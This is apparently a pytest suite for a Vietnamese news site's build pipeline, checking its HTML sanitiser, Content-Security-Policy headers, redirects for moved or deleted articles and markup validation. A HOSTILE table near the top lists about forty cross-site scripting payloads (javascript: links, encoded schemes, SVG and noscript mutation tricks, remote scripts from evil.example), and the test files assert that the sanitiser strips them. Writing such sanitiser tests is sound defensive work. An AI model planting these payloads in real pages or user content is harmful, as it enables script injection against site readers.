"""A site that cannot be turned against its readers, and never breaks a link it published
(giamngheo/sanitise, giamngheo/policy, giamngheo/addresses), on real builds and in a real browser.

The published build starts from what an earlier build left (the fixture site's ledger of
addresses), with one article renamed, one deleted, one naming an old address in
Redirect_from, and one full of hostile HTML that the content checks do not recognise.
"""

import json
import re
import shutil
import urllib.error
import urllib.request
import xml.etree.ElementTree as ET

import html5lib
import pytest
from browser import SiteServer, need
from conftest import FIXTURE_SITE, build

from giamngheo.addresses import ledger
from giamngheo.feeds import portable_html
from giamngheo.policy import csp
from giamngheo.publishing.gate import VNU, checker_messages, markup_errors
from giamngheo.sanitise.cleaner import clean_page_html

PREFIX = "/giam-ngheo"
HOSTS = ["www.youtube.com", "www.youtube-nocookie.com"]

# Every hostile input tried, by name. Each is cleaned as page HTML and as feed HTML, and the
# result parsed as a browser parses it must hold nothing that runs (see `dangers`).
HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script, upper case, remote": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "event handler on img": '<img src="x.jpg" alt="a" onerror="alert(1)">',
    "event handler on p": '<p onmouseover="alert(1)">x</p>',
    "javascript: link": '<a href="javascript:alert(1)">x</a>',
    "javascript: mixed case, spaces": '<a href="  JaVaScRiPt:alert(1)">x</a>',
    "javascript: with a tab entity": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "javascript: with a newline entity": '<a href="java&#10;script:alert(1)">x</a>',
    "javascript: letters as entities": '<a href="&#106;&#97;vascript:alert(1)">x</a>',
    "javascript: named entity colon": '<a href="javascript&colon;alert(1)">x</a>',
    "vbscript: link": '<a href="vbscript:msgbox(1)">x</a>',
    "data: HTML link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "data: SVG image": '<img src="data:image/svg+xml,&lt;svg onload=alert(1)&gt;" alt="a">',
    "SVG with script": "<svg><script>alert(1)</script></svg>",
    "SVG onload": '<svg onload="alert(1)"><circle r="1"></circle></svg>',
    "SVG animate to javascript:": '<svg><a><animate attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>',
    "MathML xlink": '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    "CSS expression": '<p style="width: expression(alert(1))">x</p>',
    "CSS url(javascript:)": '<p style="background:url(javascript:alert(1))">x</p>',
    "style element": '<style>body{background:url("javascript:alert(1)")}</style><p>x</p>',
    "iframe from another host": '<iframe src="https://evil.example/"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "iframe javascript:": '<iframe src="javascript:alert(1)"></iframe>',
    "object and embed": '<object data="x.swf"></object><embed src="x.swf">',
    "form": '<form action="https://evil.example/"><input name="a"></form>',
    "button formaction": '<button formaction="javascript:alert(1)">x</button>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base href": '<base href="https://evil.example/">',
    "link import": '<link rel="import" href="https://evil.example/x.html">',
    "img srcset javascript:": '<img srcset="javascript:alert(1) 1x" src="a.jpg" alt="a">',
    "broken: unclosed attribute": '<img src="x.jpg" alt="a onerror=alert(1)//',
    "broken: attributes run together": '<a href="x" title="a"onclick="alert(1)">x</a>',
    "broken: tag inside attribute": '<p title="</p><script>alert(1)</script>">x</p>',
    "broken: unclosed script": "<p>a</p><script>alert(1)",
    "comment breakout <!-->": "<!--><script>alert(1)</script>-->",
    "conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "noscript mutation (mXSS)": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "template holding script": "<template><script>alert(1)</script></template>",
    "entity-escaped tag stays text": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "NUL inside a tag name": "<scr\x00ipt>alert(1)</scr\x00ipt>",
}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "srcset", "poster", "background"}
SAFE_SCHEMES = ("http:", "https:", "mailto:", "tel:")
# noscript: parsed one way by a sanitiser and another by a browser running scripts (mXSS).
RUNNING_ELEMENTS = {
    "script",
    "style",
    "object",
    "embed",
    "form",
    "meta",
    "base",
    "link",
    "svg",
    "math",
    "template",
    "noscript",
}


def dangers(fragment, frame_hosts=()):
    """What would run (or reach another site by itself) in `fragment`, parsed as a browser does."""
    found = []
    tree = html5lib.parseFragment(fragment, namespaceHTMLElements=False)
    for element in tree.iter():
        tag = element.tag if isinstance(element.tag, str) else ""
        name = tag.rpartition("}")[2]
        if name in RUNNING_ELEMENTS:
            found.append(f"<{name}>")
        if name == "iframe":
            source = element.get("src", "")
            if not any(source.startswith(f"https://{host}/") for host in frame_hosts):
                found.append(f"<iframe src={source!r}>")
        for attribute, value in element.attrib.items():
            attribute = attribute.rpartition("}")[2] if attribute.startswith("{") else attribute
            plain = "".join(c for c in value if c > " ").lower()
            if attribute.startswith("on") or attribute in ("style", "srcdoc", "formaction", "srcset"):
                found.append(f"{name} {attribute}=")
            elif attribute in URL_ATTRIBUTES and ":" in plain.split("/")[0] and not plain.startswith(SAFE_SCHEMES):
                found.append(f"{name} {attribute}={value!r}")
    return found


@pytest.mark.parametrize("name", list(HOSTILE))
def test_nothing_hostile_survives_in_pages(name):
    cleaned = clean_page_html(HOSTILE[name], HOSTS)
    assert dangers(cleaned, HOSTS) == []


@pytest.mark.parametrize("name", list(HOSTILE))
def test_nothing_hostile_survives_in_feeds(name):
    cleaned = portable_html(HOSTILE[name], "https://example.org/tin-tuc/bai/")
    assert dangers(cleaned) == []


# Inputs a browser's parser itself renders harmless (they trap sanitisers that use patterns).
HARMLESS_RAW = {
    "entity-escaped tag stays text",
    "broken: tag inside attribute",
    "broken: unclosed attribute",
    "NUL inside a tag name",
    "conditional comment",
}


def test_the_danger_finder_finds_each_kind():
    """The assertions above can fail: each other raw input is found dangerous."""
    for name, fragment in HOSTILE.items():
        assert bool(dangers(fragment)) != (name in HARMLESS_RAW), name


def test_what_pages_keep():
    kept = clean_page_html(
        '<p class="c" id="a">Chữ <a href="{filename}/tin-tuc/a.md#b">bài</a> <img src="{static}/images/de.jpg" '
        'alt="Dê" width="10" height="10" loading="lazy"></p><iframe src="https://www.youtube.com/embed/x" '
        'title="Video" allowfullscreen></iframe><table><tr><th scope="col">A</th></tr></table>',
        HOSTS,
    )
    assert '<a href="{filename}/tin-tuc/a.md#b">bài</a>' in kept
    assert '<img src="{static}/images/de.jpg" alt="Dê" width="10" height="10" loading="lazy">' in kept
    assert '<iframe src="https://www.youtube.com/embed/x" title="Video" allowfullscreen="">' in kept
    assert '<th scope="col">' in kept


# -- one published build, after an earlier one -------------------------------------------

RENAMED_FROM, RENAMED_TO = "tin-tuc/a02.md", "tin-tuc/hong-dan-tong-ket-nam-2024.md"
DELETED = "tin-tuc/a03.md"
NEW_ARTICLE = """Title: Bài có địa chỉ cũ
Date: 2025-09-01 08:00
Category: Tin tức
Area: Hồng Dân
Redirect_from: /tin-tuc/2025/dia-chi-rat-cu/; {siteurl}/tin-tuc/2025/dia-chi-cu-khac/

Bài này từng ở một địa chỉ khác.
"""
# Hostile HTML that the content checks do not recognise (they refuse the rest by file and
# line, tests/test_checks.py): the sanitiser is the second line.
PAST_THE_CHECKS = [
    "MathML xlink",
    "CSS expression",
    "style element",
    "data: SVG image",
    "broken: tag inside attribute",
    "comment breakout <!-->",
]
HOSTILE_ARTICLE = "Title: Bài thử mã độc\nDate: 2025-09-02 08:00\nCategory: Tin tức\nArea: Hồng Dân\n\n" + "\n\n".join(
    HOSTILE[name] for name in PAST_THE_CHECKS
)


@pytest.fixture(scope="module")
def published(fixture_site, tmp_path_factory):
    earlier, records = fixture_site
    assert records == []
    base = tmp_path_factory.mktemp("security")
    content, output = base / "content", base / "output"
    shutil.copytree(FIXTURE_SITE, content)
    (content / RENAMED_FROM).rename(content / RENAMED_TO)
    (content / DELETED).unlink()
    previous = json.loads((earlier / ledger.LEDGER_NAME).read_text(encoding="utf-8"))
    # A page address the target's manifest lists, that no build writes any more.
    previous["addresses"]["chuyen-muc/tin-tuc/trang/9/"] = {"status": "live"}
    (base / "previous.json").write_text(json.dumps(previous), encoding="utf-8")
    with SiteServer(output, PREFIX, htaccess=True) as server:
        (content / "tin-tuc" / "moi.md").write_text(NEW_ARTICLE.format(siteurl=server.url), encoding="utf-8")
        (content / "tin-tuc" / "ma-doc.md").write_text(HOSTILE_ARTICLE, encoding="utf-8")
        records = build(
            content,
            output,
            "publishconf.py",
            SITEURL=server.url,
            DEFAULT_PAGINATION=2,
            PUBLISHED_ADDRESSES=str(base / "previous.json"),
        )
        assert [r.getMessage() for r in records] == []
        yield {"server": server, "url": server.url, "output": output, "previous": previous["addresses"]}


def fetch(published, address, htaccess=True):
    """(status, headers, body) of `address` without following redirects, served as Apache
    serves it (`htaccess`) or as a host without headers."""
    published["server"].htaccess = htaccess

    class NoRedirect(urllib.request.HTTPRedirectHandler):
        def redirect_request(self, *args):
            return None

    opener = urllib.request.build_opener(NoRedirect)
    try:
        with opener.open(f"{published['url']}/{address}") as response:
            return response.status, response.headers, response.read().decode("utf-8")
    except urllib.error.HTTPError as error:
        return error.code, error.headers, error.read().decode("utf-8")
    finally:
        published["server"].htaccess = True


def ledger_of(output):
    return json.loads((output / ledger.LEDGER_NAME).read_text(encoding="utf-8"))["addresses"]


def test_no_address_of_the_earlier_build_is_dropped(published):
    now = ledger_of(published["output"])
    missing = sorted(set(published["previous"]) - set(now))
    assert missing == []
    for address, record in now.items():
        if record["status"] == ledger.LIVE:
            assert (
                published["output"] / (address + "index.html" if address.endswith("/") or not address else address)
            ).is_file()


def test_a_renamed_file_redirects_with_301_and_a_page(published):
    old = next(a for a, r in published["previous"].items() if r.get("source") == RENAMED_FROM)
    status, headers, _ = fetch(published, old)
    assert status == 301
    assert headers["Location"] == f"{published['url']}/tin-tuc/2024/hong-dan-tong-ket-nam-2024/"
    status, _, body = fetch(published, old, htaccess=False)  # a host without .htaccess
    assert status == 200
    assert f'<link rel="canonical" href="{published["url"]}/tin-tuc/2024/hong-dan-tong-ket-nam-2024/">' in body
    assert 'http-equiv="refresh"' in body


def test_staff_name_old_addresses(published):
    for old in ("tin-tuc/2025/dia-chi-rat-cu/", "tin-tuc/2025/dia-chi-cu-khac/"):
        status, headers, _ = fetch(published, old)
        assert (status, headers["Location"]) == (301, f"{published['url']}/tin-tuc/2025/moi/")


def test_a_deleted_article_leaves_a_gone_page(published):
    old = next(a for a, r in published["previous"].items() if r.get("source") == DELETED)
    status, _, body = fetch(published, old)
    assert status == 410
    assert "Bài đã gỡ" in body and "Ninh Quới giao việc cho cán bộ" in body
    assert f'href="{published["url"]}/dia-ban/' in body  # its area
    assert f'href="{published["url"]}/tim-kiem/"' in body
    status, _, body = fetch(published, old, htaccess=False)
    assert status == 200 and "Bài đã gỡ" in body


def test_a_page_address_only_the_manifest_knew_goes_to_the_nearest_live_one(published):
    status, headers, _ = fetch(published, "chuyen-muc/tin-tuc/trang/9/")
    assert (status, headers["Location"]) == (301, f"{published['url']}/chuyen-muc/tin-tuc/")


def test_sitemap_and_feeds_list_only_live_addresses(published):
    output = published["output"]
    now = ledger_of(output)
    dead = {f"{published['url']}/{a}" for a, r in now.items() if r["status"] != ledger.LIVE}
    assert dead
    sitemap = ET.parse(output / "sitemap.xml").getroot()
    locations = {loc.text for loc in sitemap.iter("{http://www.sitemaps.org/schemas/sitemap/0.9}loc")}
    assert not locations & dead
    for feed in output.rglob("*.xml"):
        text = feed.read_text(encoding="utf-8")
        assert not [url for url in dead if f"{url}<" in text or f'{url}"' in text], feed


def test_hostile_html_past_the_checks_is_cleaned_in_pages_and_feeds(published):
    output = published["output"]
    page = (output / "tin-tuc" / "2025" / "ma-doc" / "index.html").read_text(encoding="utf-8")
    body = page.split('<div class="app-prose">', 1)[1].split("</article>", 1)[0]
    assert "<p" in body and dangers("<div " + body, HOSTS) == []
    feed = (output / "feeds" / "tin-tuc.atom.xml").read_text(encoding="utf-8")
    entry = next(
        e
        for e in ET.fromstring(feed).iter("{http://www.w3.org/2005/Atom}entry")
        if "mã độc" in e.findtext("{http://www.w3.org/2005/Atom}title")
    )
    assert dangers(entry.findtext("{http://www.w3.org/2005/Atom}content")) == []


def test_the_search_index_holds_the_sanitised_text(published):
    """The index is made from what the sanitiser left: the hostile article is found, the CSS
    of its <style> block is not (it once was: search read the text before the sanitiser ran)."""
    assert "background" in HOSTILE["style element"]
    index = published["output"] / "tim-kiem" / "chi-muc"
    files = {path: path.read_text(encoding="utf-8") for path in index.rglob("*") if path.is_file()}
    assert any("Bài thử mã độc" in text for path, text in files.items() if path.parent.name == "d")
    assert [path for path, text in files.items() if "background" in text] == []


# -- the policy --------------------------------------------------------------------------


def test_headers_as_apache_sends_them(published):
    status, headers, body = fetch(published, "")
    assert status == 200
    csp = headers["Content-Security-Policy"]
    assert "unsafe-inline" not in csp and "unsafe-eval" not in csp.replace("wasm-unsafe-eval", "")
    assert "frame-ancestors 'self'" in csp and "object-src 'none'" in csp
    assert headers["X-Frame-Options"] == "SAMEORIGIN"
    assert "camera=()" in headers["Permissions-Policy"]
    assert "Strict-Transport-Security" not in headers  # http://127.0.0.1: never HSTS
    assert "frame-ancestors" not in body.split('http-equiv="Content-Security-Policy" content="', 1)[1].split('"')[0]


def test_every_page_carries_its_own_hashes(published):
    output = published["output"]
    for path in output.rglob("*.html"):
        page = path.read_text(encoding="utf-8")
        meta = page.split('http-equiv="Content-Security-Policy" content="', 1)[1].split('"', 1)[0]
        scripts, styles, forbidden = csp.inline_code(page)
        assert forbidden == [], path
        assert all(h in meta for h in scripts + styles), path
        assert page.index("Content-Security-Policy") < page.index("<style") if "<style" in page else True


def test_the_quick_look_finds_what_the_full_parse_finds(published, fixture_site):
    """inline_code skips the full parse on pages with nothing suspect: the same hashes either way,
    on every page of two builds (with and without the policy in them), and the parse where it counts."""
    pages = [*published["output"].rglob("*.html"), *fixture_site[0].rglob("*.html")]
    assert len(pages) > 50
    for path in pages:
        page = path.read_text(encoding="utf-8")
        assert csp.inline_code(page) == csp.parsed_inline_code(page), path
    hostile = '<p onclick="x()">a</p><script>go()</script><style>p{}</style>'
    assert csp.inline_code(hostile) == csp.parsed_inline_code(hostile)
    assert csp.inline_code(hostile)[2] == ["<p onclick=…>"]
    for quiet in (
        "<SCRIPT>go()</SCRIPT><Style>p{}</sTyle>",
        '<script type="application/ld+json">{"a": "<style>"}</script><script src="a.js"></script>',
        '<script>var s = "<style>p{}</style>";</script><p>Hộ nghèo</p><script>t("Bạc Liêu")</script>',
        "<scripts>x</scripts><style\nmedia=print>p{}</style >",
    ):
        assert csp.inline_code(quiet) == csp.parsed_inline_code(quiet), quiet
    # What the quick look must not miss: each is found, and named as the parser names it.
    for attribute, markup in [
        ("<a onclick=…>", '<a title="1 > 0" onclick="x()">'),  # ">" inside a quoted value
        ("<p onclick=…>", '<p title="a"onclick="x()">'),  # no space after a quote
        ("<img onerror=…>", "<img/onerror=x>"),
        ("<div style=…>", '<DIV STYLE="color:red">'),
        ("<a href=…>", "<a href='JavaScript:go()'>"),
        ("<p onmouseover=…>", "<p\n  onmouseover=x>"),
        ("<a href=…>", '<a href=" VBScript:go()">'),
        ("<iframe src=…>", '<iframe src="data:text/html,<p>x</p>">'),
        ("<p on-x=…>", '<p on-x="y">'),  # any attribute named on…: the rule the checks apply
    ]:
        page = f"<p>Không trong công</p>{markup}<p>hộ nghèo</p>"
        assert csp.needs_parse(page.encode("utf-8").lower()), markup  # the look inline_code takes
        assert csp.inline_code(page)[2] == [attribute], markup


def test_hsts_and_upgrade_only_for_https(tmp_path):
    """The headers for a site at an https address, written by the real step on real files."""
    from giamngheo.policy.policy import DEFAULTS, apply_policy

    (tmp_path / "index.html").write_text(
        '<!doctype html><meta charset="utf-8"><style>p{}</style><p>x', encoding="utf-8"
    )

    class Site:
        settings = {**DEFAULTS, "OUTPUT_PATH": str(tmp_path), "SITE_ABSOLUTE_URL": "https://giamngheo.example/a"}

    apply_policy(Site)
    htaccess = (tmp_path / ".htaccess").read_text(encoding="utf-8")
    assert 'Strict-Transport-Security "max-age=31536000"' in htaccess
    assert "upgrade-insecure-requests" in (tmp_path / "index.html").read_text(encoding="utf-8")
    apply_policy(Site)  # a second build into the same folder: the rules once, not twice
    assert (tmp_path / ".htaccess").read_text(encoding="utf-8").count("Content-Security-Policy") == 1


def page_kinds(output):
    """One page of each kind: the first (by name) of each first folder, depth and set of
    script tags it has (a page with a script of its own, such as the comparison, or a redirect
    page without any, is its own kind), plus the search with results and an address that does not exist."""
    kinds = {}
    for path in sorted(output.rglob("*.html")):
        relative = path.relative_to(output).as_posix()
        scripts = tuple(sorted(set(re.findall(r"<script[^>]*>", path.read_text(encoding="utf-8")))))
        key = (relative.split("/")[0], relative.count("/"), scripts)
        kinds.setdefault(key, relative.removesuffix("index.html"))
    return [*sorted(kinds.values()), "tim-kiem/?q=nuoi+de", "khong-co-trang-nay/"]


WATCH = """
window.__violations = [];
document.addEventListener("securitypolicyviolation", function (e) {
  window.__violations.push(e.violatedDirective + " " + (e.blockedURI || "inline") + " " + e.sourceFile + ":" + e.lineNumber);
});
"""


@pytest.mark.parametrize("host", ["apache", "pages"])
def test_every_page_kind_runs_under_the_policy(browser, published, host):
    published["server"].htaccess = host == "apache"
    context = browser.new_context(viewport={"width": 360, "height": 800})
    context.add_init_script(WATCH)
    tab = context.new_page()
    console = []
    tab.on(
        "console", lambda message: console.append(message.text) if "Content Security Policy" in message.text else None
    )
    seen = []
    try:
        for address in page_kinds(published["output"]):
            tab.goto(f"{published['url']}/{address}")
            if address.startswith("tim-kiem/?q="):
                tab.wait_for_function("() => document.querySelectorAll('.app-search__result').length > 0")
            tab.emulate_media(media="print")
            tab.wait_for_timeout(50)
            tab.emulate_media(media="screen")
            seen += [f"{address}: {v}" for v in tab.evaluate("window.__violations")]
    finally:
        context.close()
        published["server"].htaccess = True
    assert len(page_kinds(published["output"])) >= 15
    assert seen == [] and console == []


@pytest.mark.parametrize("host", ["apache", "pages"])
def test_the_policy_is_enforced(browser, published, host):
    """The test above can fail: code the site did not ship is refused and reported."""
    published["server"].htaccess = host == "apache"
    context = browser.new_context()
    context.add_init_script(WATCH)
    tab = context.new_page()
    try:
        tab.goto(f"{published['url']}/")
        tab.evaluate(
            """() => {
              const s = document.createElement("script"); s.textContent = "window.__ran = true"; document.body.append(s);
              const p = document.createElement("p"); p.setAttribute("style", "color: red"); document.body.append(p);
            }"""
        )
        tab.wait_for_timeout(100)
        assert tab.evaluate("window.__ran") is None
        violations = tab.evaluate("window.__violations")
    finally:
        context.close()
        published["server"].htaccess = True
    assert any(v.startswith("script-src") for v in violations)
    assert any(v.startswith("style-src") for v in violations)


def test_the_gate_validates_every_page_and_the_css(published, tmp_path):
    """One run of the Nu Html Checker over the whole published build (redirect and "đã gỡ"
    pages included) finds nothing; a page it must refuse is refused."""
    need(VNU.is_file() and shutil.which("java"), "vnu-jar (npm) and java")
    assert markup_errors(published["output"]) == []
    (tmp_path / "a.html").write_text(
        '<!doctype html><html lang="vi"><head><meta charset="utf-8"><title>x</title><style>p{colr:red}</style>'
        "</head><body><p><div>x</div></p></body></html>",
        encoding="utf-8",
    )
    found = markup_errors(tmp_path)
    assert any("colr" in message for _, message in found) and any(page.startswith("a.html") for page, _ in found)


def test_the_gate_checks_a_page_once_by_its_content(tmp_path, monkeypatch):
    """With its cache, the checker is not run again on what it passed (no Java is started for
    it), what it refused is checked every time, and a page whose bytes changed is checked again."""
    need(VNU.is_file() and shutil.which("java"), "vnu-jar (npm) and java")
    site, cache = tmp_path / "site", tmp_path / "gate-cache"
    site.mkdir()
    good = (
        '<!doctype html><html lang="vi"><head><meta charset="utf-8"><title>x</title></head><body><p>x</p></body></html>'
    )
    (site / "a.html").write_text(good, encoding="utf-8")
    (site / "b.html").write_text(good.replace("<p>x</p>", "<p><div>x</div></p>"), encoding="utf-8")
    (site / "c.css").write_text("p { color: red }", encoding="utf-8")
    assert {page.split(" ")[0] for page, _ in markup_errors(site, cache=cache)} == {"b.html"}
    assert len(list(cache.glob("??/*"))) == 2  # a.html and c.css

    monkeypatch.setenv("PATH", str(tmp_path / "no-java-here"))
    assert markup_errors(site, cache=cache) == [(None, "missing")]  # b.html needs the checker again
    (site / "b.html").unlink()
    (site / "d.html").write_text(good, encoding="utf-8")  # the same bytes under another name
    assert markup_errors(site, cache=cache) == []
    (site / "a.html").write_text(good.replace("<p>x</p>", "<p>y</p>"), encoding="utf-8")
    assert markup_errors(site, cache=cache) == [(None, "missing")]


def test_an_inline_stylesheet_is_checked_once_and_its_errors_named_where_they_are(tmp_path):
    """The theme's stylesheet is inline in every page: the gate checks each distinct one once,
    names an error in it at the first page that holds it, on its line there, and records none
    of the pages that hold it as passed; the pages' own errors keep their lines."""
    need(VNU.is_file() and shutil.which("java"), "vnu-jar (npm) and java")
    site, cache = tmp_path / "site", tmp_path / "gate-cache"
    site.mkdir()

    def page(style, body="<p>x</p>"):
        return (
            '<!doctype html>\n<html lang="vi">\n<head><meta charset="utf-8"><title>x</title>\n'
            f'<style>\n.a::before {{ content: "Bạc Liêu" }}\n{style}\n</style>\n</head>\n<body>{body}</body>\n</html>\n'
        )

    (site / "a.html").write_text(page("p { colr: red }"), encoding="utf-8")
    (site / "b.html").write_text(page("p { colr: red }", "<p><div>x</div></p>"), encoding="utf-8")
    (site / "c.html").write_text(page("p { color: red }"), encoding="utf-8")
    found = markup_errors(site, cache=cache)
    css = [page for page, message in found if "colr" in message]
    assert css == ["a.html (dòng 6)"]  # once, at the first page, on the line it is on
    # b.html's own error, on the line the checker gives when it reads the page as it is
    [line] = [m["lastLine"] for m in checker_messages([site / "b.html"]) if "colr" not in m["message"]]
    assert [page for page, message in found if "colr" not in message] == [f"b.html (dòng {line})"]
    assert len(list(cache.glob("??/*"))) == 1  # c.html alone passed
